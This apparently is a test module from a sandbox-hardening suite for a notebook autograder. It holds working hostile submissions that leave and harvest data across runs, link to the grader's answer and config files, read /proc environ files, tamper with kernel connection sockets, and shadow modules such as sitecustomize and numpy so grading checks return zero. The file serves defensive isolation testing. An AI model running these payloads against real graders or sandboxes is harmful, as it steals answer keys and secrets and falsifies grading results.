"""Attacks that reach for others through what is handed in, left behind or shared."""

from __future__ import annotations

import os
from collections.abc import Callable
from pathlib import Path

from tests.hostile.attack import Attack, Places, first, last
from tests.hostile.reach import LIBC, reading
from tests.hostile.target import CARRIED

#: Everything in which one submission might leave a word for the next.
LEAVE = f"""{LIBC}
import socket
import threading

word = b"{CARRIED}"
for folder in ("/tmp", "/dev/shm", "/var/tmp", "/dev/mqueue", "/run", "/dev", "/", os.getcwd(),
               "..", "/etc", "/proc/1/root/tmp", "/proc/self/root/dev/shm"):
    for name in ("left.txt", ".left", "work/left.txt", "files/left.txt"):
        try:
            with open(os.path.join(folder, name), "wb") as file:
                file.write(word)
        except OSError:
            pass
libc.shmat.restype = ctypes.c_void_p
place = libc.shmat(libc.shmget(0xD1E, 4096, 0o1666), None, 0)
if place not in (None, 2**64 - 1):
    ctypes.memmove(place, word, len(word))
libc.syscall(248, b"user", b"left", word, len(word), -3)
server = socket.socket(socket.AF_UNIX)
server.bind("\\0left")
server.listen()


def serve():
    while True:
        server.accept()[0].sendall(word)


threading.Thread(target=serve, daemon=True).start()
if os.fork() == 0:
    os.setsid()
    import time
    time.sleep(30)
    os._exit(0)
"""
FIND = f"""{LIBC}
import socket
import subprocess

for folder in ("/tmp", "/dev/shm", "/var/tmp", "/dev/mqueue", "/run", "/dev", os.getcwd(), ".."):
    for top, _, names in os.walk(folder):
        for name in names:
            try:
                if os.stat(os.path.join(top, name)).st_size < 100:
                    with open(os.path.join(top, name), "rb") as file:
                        print(file.read())
            except OSError:
                pass
libc.shmat.restype = ctypes.c_void_p
place = libc.shmat(libc.shmget(0xD1E, 4096, 0o666), None, 0)
if place not in (None, 2**64 - 1):
    print(ctypes.string_at(place, 100))
words = ctypes.create_string_buffer(100)
key = libc.syscall(250, 10, -3, b"user", b"left", 0)
libc.syscall(250, 11, key, words, 100)
print(words.raw)
try:
    client = socket.socket(socket.AF_UNIX)
    client.connect("\\0left")
    print(client.recv(100))
except OSError as error:
    print(error)
"""


def linked(target: str, name: str, *, hard: bool = False) -> Callable[[Path, Places], None]:
    """Return what lays a link to something of the grader's into a submission."""

    def place(folder: Path, places: Places) -> None:
        if hard:
            os.link(places.fill(target), folder / name)
        else:
            (folder / name).symlink_to(places.fill(target))

    return place


ATTACKS = (
    Attack(
        "leaves_a_word",
        "Leaves a word for the next submission in files, shared memory, keyrings and sockets.",
        first(LEAVE) | last("import time\ntime.sleep(2)"),
    ),
    Attack(
        "looks_for_a_word",
        "Looks for what an earlier or neighbouring submission left in files, memory and sockets.",
        first(FIND) | last(f"import time\ntime.sleep(1)\n{FIND}"),
    ),
    Attack(
        "symlink_in_submission",
        "Hands in a symbolic link to the grader's file, and reads it.",
        first(reading("data.txt")),
        place=linked("@COURSE@/answers.txt", "data.txt"),
    ),
    Attack(
        "symlinked_folder",
        "Hands in a folder that is a symbolic link to the course's own, and reads there.",
        first(reading("data/answers.txt", "data/source/answers.txt")),
        place=linked("@COURSE@", "data"),
    ),
    Attack(
        "hard_link_in_submission",
        "Hands in a hard link to the course's configuration, and writes to it.",
        first("""
with open("data.txt", "w") as file:
    file.write("mine now")"""),
        place=linked("@COURSE@/nbgrader_config.py", "data.txt", hard=True),
    ),
    Attack(
        "sockets_of_its_kernel",
        "Replaces the sockets and the connection file that it shares with the grader.",
        first("""
import glob
import json
import os
import shutil

from ipykernel import get_connection_file

path = get_connection_file()
print(open(path).read())
folder = os.path.dirname(path)
for name in glob.glob(folder + "/*") + glob.glob(folder + "/../*"):
    for act in (os.unlink, shutil.rmtree, lambda n: os.rename(n, n + ".old"),
                lambda n: os.symlink("@COURSE@", n + ".link"), lambda n: os.chmod(n, 0o777)):
        try:
            act(name)
            print("CHANGED", name)
        except OSError as error:
            print(error)"""),
    ),
    Attack(
        "scratch_links",
        "Puts links to the judge's own files where a test will look for a result.",
        {
            "save": """import os

targets = iter(["/proc/self/environ", "/proc/self/cmdline", "/proc/self/maps", "/proc/self/fd/0",
                "/proc/1/environ", "@COURSE@/answers.txt", "/proc/self/stat"] * 3)


def save(path, amount):
    if os.path.lexists(path):
        os.unlink(path)
    os.symlink(next(targets), path)"""
        },
    ),
    Attack(
        "modules_for_the_judge",
        "Writes modules into its folder that a test, or a library of the judge's, would import.",
        {
            "save": """import os

lie = '''
import sys
for frame in sys._current_frames().values():
    while frame:
        frame.f_globals["close"] = frame.f_globals["abs"] = lambda *given: 0.0
        frame = frame.f_back
def __getattr__(name):
    return lambda *given, **named: 0.0
'''
for name in ("statistics", "colorsys", "numpy", "fractions", "sitecustomize", "usercustomize",
             "conftest", "nbgrader", "encodings", "linecache", "tokenize", "scipy"):
    for folder in (".", "/tmp", "/tmp/work", os.path.expanduser("~")):
        try:
            with open(f"{folder}/{name}.py", "w") as file:
                file.write(lie)
        except OSError:
            pass


def save(path, amount):
    with open(path, "w") as file:
        file.write("0")"""
        },
    ),
)
